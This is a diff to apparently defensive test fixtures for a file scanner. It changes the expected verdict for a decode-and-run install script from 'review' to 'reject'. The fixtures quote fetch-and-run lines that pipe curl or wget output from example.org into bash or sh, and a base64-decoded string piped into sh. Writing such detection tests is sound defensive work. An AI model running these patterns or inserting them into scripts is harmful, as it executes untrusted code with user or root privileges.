@@ -75,7 +75,7 @@ CASES: tuple[Case, ...] = (
     _case("fetch-and-run", "a script that runs what it fetches",
           {"install.sh": "#!/bin/bash\ncurl -s https://example.org/x | sudo bash\n"}, "review", _SHELL),
     _case("decode-and-run", "a script that runs what it decodes",
-          {"install.sh": "#!/bin/sh\necho ZWNobyBoZWxsbw== | base64 -d | sh\n"}, "review", _SHELL),
+          {"install.sh": "#!/bin/sh\necho ZWNobyBoZWxsbw== | base64 -d | sh\n"}, "reject", _SHELL),
     _case("notebook-fetch-and-run", "a cell of a notebook that runs what it fetches",
           {"a.ipynb": _notebook("!wget -qO- https://example.org/x | sh\n")}, "review", _SHELL),
     _case("ordinary-clone", "the settings and the hook that a clone with Git LFS has",
